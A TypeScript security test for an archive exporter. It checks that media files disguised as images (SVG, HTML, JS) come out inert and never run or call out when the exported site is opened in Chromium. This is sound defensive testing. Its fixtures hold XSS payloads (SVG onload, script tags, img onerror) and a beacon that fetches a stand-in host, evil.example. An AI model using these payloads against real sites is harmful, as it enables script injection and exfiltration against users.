// Issue 13 item 1: exported media never runs. An archive whose "images" are SVG, HTML and JS entries is exported as a
// site and as Markdown; the site is opened in Chromium from file:// and from a plain static web server, every local
// link and source is followed, and no script runs and no request leaves.
import { mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { extname, join, normalize, sep } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser, type BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Archive } from '../../../main/engine/archive.js';
import { extensionOf } from '../../../main/engine/export/media-copy.js';
import { writeMarkdown } from '../../../main/engine/export/markdown.js';
import { writeSite } from '../../../main/engine/export/site.js';
import { openArchive } from '../../../main/engine/open.js';
import { DEFAULT_ACCOUNT, makePost, writeArchive, type MediaOptions } from '../../fixtures/archive-builder.js';

const CHROMIUM = process.env.OUTBOX_CHROMIUM ?? '/usr/bin/chromium';
const ARGS = ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];

/** Every payload reports itself twice: a same-origin request (/pwned-…) and a remote one. Neither may ever be made. */
const beacon = (tag: string) => `new Image().src='/pwned-${tag}';fetch('https://evil.example/${tag}').catch(function(){});document.title='pwned'`;
const SVG = (tag: string) => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${beacon(tag)}"><script>${beacon(`${tag}-script`)}</script><rect width="9" height="9"/></svg>`);
const HTML = (tag: string) => Buffer.from(`<!doctype html><title>x</title><script>${beacon(tag)}</script><img src=x onerror="${beacon(`${tag}-img`)}">`);
const JS = (tag: string) => Buffer.from(`${beacon(tag)};`);

/** Hostile "images": each claims an image type, and is a runnable file under its entry name or its bytes. */
const HOSTILE: MediaOptions[] = [
  { kind: 'image', mediaType: 'image/png', ext: 'svg', bytes: SVG('svg-as-png'), alt: 'svg named png' },
  { kind: 'image', mediaType: 'image/jpeg', ext: 'html', bytes: HTML('html-as-jpeg'), alt: 'html named jpeg' },
  { kind: 'image', mediaType: 'image/png', ext: 'js', bytes: JS('js-as-png'), alt: 'js named png' },
  { kind: 'image', mediaType: 'image/svg+xml', ext: 'svg', bytes: SVG('plain-svg'), alt: 'real svg' },
  { kind: 'image', mediaType: 'text/html', ext: 'htm', bytes: HTML('text-html'), alt: 'declared html' },
  { kind: 'image', mediaType: 'image/png', ext: 'png', bytes: SVG('svg-bytes-in-png'), alt: 'svg bytes in a png' },
  { kind: 'image', mediaType: 'image/gif', ext: 'xhtml', bytes: HTML('xhtml'), alt: 'xhtml named gif' },
];

const MEDIA_EXT = /\.(jpg|jpeg|png|gif|webp|avif|heic|heif|bmp|mp4|webm|mov|ogv|m4v|mp3|ogg|oga|opus|wav|m4a|flac|aac|bin)$/;

const tmp = mkdtempSync(join(tmpdir(), 'outbox-inert-'));
const site = join(tmp, 'site');
const md = join(tmp, 'md');
let archive: Archive;
let browser: Browser;
let server: Server;
let origin = '';
const served: string[] = [];

/** A static file server as nginx or `python -m http.server` behaves: the type from the extension, nothing else. */
const TYPES: Record<string, string> = {
  '.html': 'text/html', '.htm': 'text/html', '.xhtml': 'application/xhtml+xml', '.js': 'text/javascript', '.css': 'text/css',
  '.svg': 'image/svg+xml', '.png': 'image/png', '.jpg': 'image/jpeg', '.gif': 'image/gif', '.mp4': 'video/mp4', '.mp3': 'audio/mpeg',
};

beforeAll(async () => {
  const items = HOSTILE.map((m, i) =>
    makePost({ account: DEFAULT_ACCOUNT, published: `2023-0${1 + (i % 9)}-02T10:00:00Z`, html: `<p>post ${i}</p>`, visibility: 'public', media: [m] }));
  const path = await writeArchive({ version: '4.4', account: DEFAULT_ACCOUNT, items }, join(tmp, 'archive'), { container: 'zip' });
  archive = await openArchive(path, { cacheDir: null });
  const mediaSource = async (p: string) => (await archive.openMedia(p))?.stream;
  await writeSite(archive.posts(), site, { mediaSource, title: 'inert' });
  await writeMarkdown(archive.posts(), md, { mediaSource });
  server = createServer((req, res) => {
    const path = decodeURIComponent(new URL(req.url ?? '/', 'http://x').pathname);
    served.push(path);
    const file = normalize(join(site, path === '/' ? 'index.html' : path));
    if (!file.startsWith(site + sep)) return res.writeHead(403).end();
    try {
      const bytes = readFileSync(file);
      res.writeHead(200, { 'content-type': TYPES[extname(file)] ?? 'application/octet-stream' }).end(bytes);
    } catch {
      res.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  origin = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS, headless: true });
}, 60_000);

afterAll(async () => {
  await browser?.close();
  server?.close();
  await archive?.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('exported media is inert', () => {
  it('gives runnable entries no runnable extension, whatever the archive names or types them', () => {
    expect(extensionOf({ path: 'a/b.svg', url: 'a/b.svg', mediaType: 'image/png' })).toBe('png');
    expect(extensionOf({ path: 'a/b.svg', url: 'a/b.svg', mediaType: 'image/svg+xml' })).toBe('bin');
    expect(extensionOf({ path: 'a/b.html', url: 'a/b.html', mediaType: 'text/html' })).toBe('bin');
    expect(extensionOf({ path: 'a/b.JPEG', url: 'a/b.JPEG', mediaType: 'image/jpeg' })).toBe('jpeg');
    for (const out of [site, md]) {
      const files = readdirSync(join(out, 'media'));
      expect(files).toHaveLength(HOSTILE.length);
      for (const f of files) expect(f, `${out}/media/${f}`).toMatch(MEDIA_EXT);
    }
    const pages = readdirSync(join(site, 'posts')).map((f) => readFileSync(join(site, 'posts', f), 'utf8')).join('\n');
    expect(pages).not.toMatch(/media\/[^"]*\.(svg|html?|xhtml|js)"/);
    // an inert copy is offered as a download, never embedded as an image
    expect(pages).toMatch(/<a href="\.\.\/media\/[0-9a-f]{12}-0\.bin" download>/);
    expect(pages).not.toMatch(/<img src="[^"]*\.bin"/);
    expect(readFileSync(join(md, readdirSync(md).find((f) => f.startsWith('2023'))!), 'utf8')).not.toMatch(/!\[[^\]]*\]\(media\/[^)]*\.bin\)/);
  });

  /** Opens every page of the site and every local href/src on it; returns every URL any frame asked for. */
  async function crawl(context: BrowserContext, start: string, local: (url: string) => boolean): Promise<{ asked: string[]; remote: string[]; visited: number }> {
    const asked: string[] = [];
    const remote: string[] = [];
    await context.route('**/*', (route) => {
      const url = route.request().url();
      asked.push(url);
      if (local(url)) return route.continue();
      remote.push(url);
      return route.abort();
    });
    const seen = new Set<string>([start]);
    const queue = [start];
    let titles = '';
    while (queue.length) {
      const url = queue.shift()!;
      const page = await context.newPage();
      await page.goto(url, { waitUntil: 'load', timeout: 5000 }).catch(() => {}); // a download (the inert .bin) aborts the navigation
      await page.waitForTimeout(50);
      titles += (await page.title().catch(() => '')) + '\n';
      const links = await page.evaluate(() =>
        // attributes, not .href: the Atom feed is XML, whose elements have no href property
        [...document.querySelectorAll('[href],[src]')].map((e) => new URL(e.getAttribute('href') ?? e.getAttribute('src') ?? '', document.baseURI).href)).catch(() => [] as string[]);
      for (const link of links) {
        const bare = link.split('#')[0]!;
        if (local(bare) && !seen.has(bare)) {
          seen.add(bare);
          queue.push(bare);
        }
      }
      await page.close();
    }
    expect(titles).not.toContain('pwned');
    return { asked, remote, visited: seen.size };
  }

  it('runs nothing and loads nothing remote from file://, with every local link followed', async () => {
    const context = await browser.newContext({ serviceWorkers: 'block', acceptDownloads: false });
    const root = pathToFileURL(site).href;
    const { asked, remote, visited } = await crawl(context, `${root}/index.html`, (u) => u.startsWith(`${root}/`));
    await context.close();
    expect(visited).toBeGreaterThan(HOSTILE.length * 2);
    expect(asked.filter((u) => u.includes('/media/')).length).toBeGreaterThanOrEqual(HOSTILE.length);
    expect(asked.filter((u) => u.includes('pwned'))).toEqual([]);
    expect(remote).toEqual([]);
  }, 120_000);

  it('runs nothing and loads nothing remote from a plain static web server, with every local link followed', async () => {
    const context = await browser.newContext({ serviceWorkers: 'block', acceptDownloads: false });
    served.length = 0;
    const { asked, remote, visited } = await crawl(context, `${origin}/index.html`, (u) => u.startsWith(`${origin}/`));
    await context.close();
    expect(visited).toBeGreaterThan(HOSTILE.length * 2);
    expect(served.filter((p) => p.startsWith('/media/')).length).toBeGreaterThanOrEqual(HOSTILE.length);
    expect(served.filter((p) => p.includes('pwned'))).toEqual([]);
    expect(asked.filter((u) => u.includes('pwned'))).toEqual([]);
    expect(remote).toEqual([]);
  }, 120_000);

  it('wrote nothing but the site\'s own files', () => {
    for (const f of readdirSync(site)) expect(['index.html', 'style.css', 'search.js', 'search-data.js', 'feed.xml', 'manifest.json', 'months', 'posts', 'media']).toContain(f);
    expect(statSync(join(site, 'media')).isDirectory()).toBe(true);
  });
});
